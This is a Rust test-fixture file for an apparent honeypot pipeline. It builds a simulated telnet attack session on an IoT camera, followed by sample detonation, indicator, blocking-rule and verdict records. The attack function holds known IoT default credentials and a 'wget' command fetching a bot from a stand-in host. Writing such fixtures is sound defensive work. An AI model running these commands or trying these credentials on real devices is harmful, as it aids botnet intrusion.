//! Events for tests: sessions that look like real ones, made from a number.
#![allow(dead_code, unused_imports, reason = "each test takes what it needs")]
use otori_event::{
    Artifact, CaptureMethod, Classification, Endpoint, Event, EventId, EventKind, Evidence, EvidenceKind,
    Evidenced, Indicator, IndicatorKind, IndicatorState, RawText, Report, Rule, RuleChange, SessionId,
    Sha256, Stage, Timestamp, Transport, Verdict, VerdictAction, report::End,
};

/// 2026-11-22T12:00:00Z
pub const NOON: Timestamp = Timestamp(1_795_348_800_000_000_000);

pub fn event(at: Timestamp, session: u64, sequence: u32, kind: EventKind) -> Event {
    Event {
        id: EventId::new(at, session, sequence),
        at,
        product: Some("camera-mipsel".parse().unwrap()),
        session: Some(SessionId::new(session)),
        demo: false,
        kind,
    }
}

pub fn endpoint(text: &str) -> Endpoint {
    text.parse::<std::net::SocketAddr>().unwrap().into()
}

pub fn opened(at: Timestamp, session: u64) -> Event {
    let source = endpoint(&format!("203.0.113.{}:{}", session % 200 + 1, 1024 + session % 60000));
    event(
        at,
        session,
        0,
        EventKind::SessionOpened { front: "telnet".into(), source, local: endpoint("127.0.0.1:2323") },
    )
}

pub fn login(at: Timestamp, session: u64, sequence: u32, user: &str, password: &str, success: bool) -> Event {
    event(
        at,
        session,
        sequence,
        EventKind::LoginAttempt { user: user.into(), password: password.into(), success },
    )
}

pub fn command(at: Timestamp, session: u64, sequence: u32, line: &str) -> Event {
    event(at, session, sequence, EventKind::Command { line: line.into() })
}

pub fn artifact(sha256: Sha256) -> Artifact {
    Artifact {
        sha256,
        size: 4,
        name: "/tmp/bot".into(),
        mode: 0o755,
        url: Some("http://192.0.2.9/bot".into()),
        method: CaptureMethod::Http,
    }
}

pub fn captured(at: Timestamp, session: u64, sequence: u32, sha256: Sha256) -> Event {
    event(at, session, sequence, EventKind::FileCaptured { artifact: artifact(sha256) })
}

pub fn closed(at: Timestamp, session: u64, sequence: u32, stage: Stage) -> Event {
    let kind = EventKind::SessionClosed {
        duration_ms: 5_000,
        reason: "peer closed".into(),
        bytes_in: 100,
        bytes_out: 200,
        stage,
    };
    event(at, session, sequence, kind)
}

pub fn classification() -> Classification {
    let mips = Evidenced { value: "mips".into(), evidence: "e_machine 8".into(), confidence: 100 };
    Classification { cpu: Some(mips), runnable: true, ..Classification::default() }
}

pub fn report(sha256: Sha256) -> Report {
    Report {
        sha256,
        class: classification(),
        end: End::Exited { status: 0 },
        virtual_ns: 1_000,
        instructions: 5_000,
        syscalls: [("write".to_owned(), 3)].into(),
        unsupported: Default::default(),
        processes: vec![],
        files: vec![],
        contacts: vec![],
        names: vec!["c2.example".into()],
        dropped: vec![],
        behaviours: vec![],
        output: RawText::from("hello\n"),
        trace: vec![otori_event::report::Call {
            at_ns: 1,
            pid: 1,
            line: "write(1, \"hello\\n\", 6) = 6".into(),
        }],
        trace_omitted: 0,
    }
}

pub fn lab(at: Timestamp, sequence: u32, kind: EventKind) -> Event {
    Event { session: None, ..event(at, 77, sequence, kind) }
}

pub fn indicator(at: Timestamp, value: &str, artifact: Sha256) -> Indicator {
    Indicator {
        kind: IndicatorKind::Url,
        value: value.into(),
        state: IndicatorState::Active,
        score: 97.5,
        first_seen: at,
        last_seen: at,
        updated_at: at,
        expires_at: None,
        evidence: vec![Evidence {
            kind: EvidenceKind::PayloadSource,
            events: vec![],
            artifact: Some(artifact),
            at,
            note: "fetched by a session".into(),
        }],
        guard_reason: None,
        demo: false,
    }
}

pub fn rule(at: Timestamp, sid: u32, value: &str) -> Rule {
    Rule {
        sid,
        text: format!("drop http any any -> any any (msg:\"Otori\"; sid:{sid};)"),
        indicator_kind: IndicatorKind::Url,
        indicator: value.into(),
        expires_at: None,
        made_at: at,
    }
}

pub fn verdict(sid: u32, made: Timestamp) -> Verdict {
    Verdict {
        action: VerdictAction::Drop,
        sid,
        message: "Otori".into(),
        source: endpoint("198.51.100.7:40000"),
        destination: endpoint("192.0.2.9:80"),
        transport: Transport::Tcp,
        application: "http".into(),
        subject: Some("http://192.0.2.9/bot".into()),
        device: "198.51.100.7".into(),
        guard: "guard-1".into(),
        rule_made_at: Some(made),
        repeated: 2,
    }
}

/// The whole loop: a session that drops a file, its detonation, the rule, its enforcement, a refusal.
pub fn attack(start: Timestamp, session: u64, sha256: Sha256) -> Vec<Event> {
    let at = |ms: i64| start.plus_ns(ms * 1_000_000);
    let url = "http://192.0.2.9/bot";
    vec![
        opened(at(0), session),
        login(at(100), session, 1, "root", "xc3511", false),
        login(at(200), session, 2, "root", "vizxv", true),
        command(at(300), session, 3, "wget http://192.0.2.9/bot"),
        captured(at(1_000), session, 4, sha256),
        lab(at(1_100), 5, EventKind::Classified { sha256, class: Box::new(classification()) }),
        lab(at(1_500), 6, EventKind::Detonated { report: Box::new(report(sha256)) }),
        lab(
            at(1_600),
            7,
            EventKind::IndicatorChanged { indicator: Box::new(indicator(at(1_600), url, sha256)) },
        ),
        lab(
            at(1_600),
            8,
            EventKind::RuleChanged { change: RuleChange::Add { rule: rule(at(1_600), 9_000_001, url) } },
        ),
        lab(at(1_650), 9, EventKind::RuleEnforced { sid: 9_000_001, guard: "guard-1".into() }),
        lab(at(3_000), 10, EventKind::VerdictGiven { verdict: Box::new(verdict(9_000_001, at(1_600))) }),
        closed(at(5_000), session, 11, Stage::Infection),
    ]
}
